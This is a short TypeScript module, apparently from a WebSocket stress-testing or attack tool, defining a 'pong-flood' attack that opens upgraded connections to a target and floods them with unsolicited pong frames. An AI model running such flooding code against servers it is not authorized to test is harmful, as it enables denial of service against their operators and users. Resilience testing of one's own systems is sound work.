import type { Attack } from '../attack.ts';
import { flood, frame, OPCODES } from '../frames.ts';

const PONGS = Buffer.concat(Array(500).fill(frame({ opcode: OPCODES.pong, payload: Buffer.alloc(8) })));

/** Unsolicited pongs. */
export const pongFlood: Attack = {
  name: 'pong-flood',
  run: (target, signal) =>
    target.repeat(5, async (address) => {
      const socket = await target.upgraded(address);
      if (socket) await flood(socket, PONGS, signal);
    }),
};
